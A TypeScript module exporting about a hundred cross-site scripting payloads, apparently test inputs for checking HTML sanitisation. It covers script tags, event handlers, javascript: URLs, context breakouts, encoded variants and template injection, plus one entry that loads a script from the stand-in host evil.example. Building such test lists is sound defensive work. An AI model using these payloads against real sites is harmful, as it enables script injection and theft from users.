// What would run if a page took a document's words for markup: in elements, attributes, addresses, comments, styles, SVG, templates, entities.
const act = 'top.ran=1,alert(1)'

const bodies = [
  `<script>${act}</script>`, `</script><script>${act}</script>`, `<ScRiPt>${act}</sCrIpT>`, `<script src="data:text/javascript,${act}"></script>`, `<script type=module>${act}</script>`,
  `<img src=x onerror=${act}>`, `<img src=x onerror="${act}">`, `<img src='x' onerror='${act}'/>`, `<svg onload=${act}>`, `<svg><script>${act}</script></svg>`, `<svg/onload=${act}//`, `<body onload=${act}>`,
  `<iframe srcdoc="<script>${act}</script>">`, `<iframe src="javascript:${act}">`, `<object data="javascript:${act}">`, `<embed src="javascript:${act}">`, `<a href="javascript:${act}" id=x>x</a>`,
  `<details open ontoggle=${act}>`, `<video><source onerror=${act}>`, `<audio src=x onerror=${act}>`, `<input autofocus onfocus=${act}>`, `<select autofocus onfocus=${act}>`, `<textarea autofocus onfocus=${act}>`,
  `<marquee onstart=${act}>`, `<math><mtext><script>${act}</script></mtext></math>`, `<style>@import 'data:text/css,*{}';</style>`, `<style>*{background:url(javascript:${act})}</style>`, `<link rel=stylesheet href=data:text/css,*{display:none}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`, `<base href="javascript:${act}//">`, `<form action="javascript:${act}"><button>x</button></form>`, `<button formaction="javascript:${act}">x</button>`,
  `<template><script>${act}</script></template>`, `<noscript><img src=x onerror=${act}></noscript>`, `<xmp><script>${act}</script></xmp>`, `<title><script>${act}</script></title>`,
]
const breakouts = ['">', "'>", '"/>', '" ', "' ", '-->', ']]>', '</title>', '</textarea>', '</style>', '</svg>', '</p></div></main>', '\u0000', '\u2028', '<!--', '<![CDATA[']
const attributes = [`" onmouseover="${act}" x="`, `' onfocus='${act}' autofocus x='`, `" style="animation:x" onanimationstart="${act}`, `" autofocus onfocus="${act}" x="`, '" style="position:fixed;inset:0;background:red" x="']
const others = [
  `javascript:${act}`, `JaVaScRiPt:${act}`, ` javascript:${act}`, `java\tscript:${act}`, `data:text/html,<script>${act}</script>`, `vbscript:${act}`, `//evil.example/x.js`, `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;script&#62;${act}&#60;/script&#62;`,
  `{{constructor.constructor('${act}')()}}`, `\${${act}}`, `<%= ${act} %>`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`, `%3Cscript%3E${act}%3C/script%3E`, `＜script＞${act}＜/script＞`, `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `__proto__`, `constructor`, `\u202e<script>${act}</script>`, `\ufeff<script>${act}</script>`,
]

/** A hundred of them. */
export const payloads: readonly string[] = [...bodies, ...attributes, ...others, ...breakouts.flatMap((breakout, i) => [bodies[i * 2], bodies[i * 2 + 5], bodies[(i * 3 + 1) % bodies.length]].map((body) => `${breakout}${body ?? bodies[0]}`))].slice(0, 100)
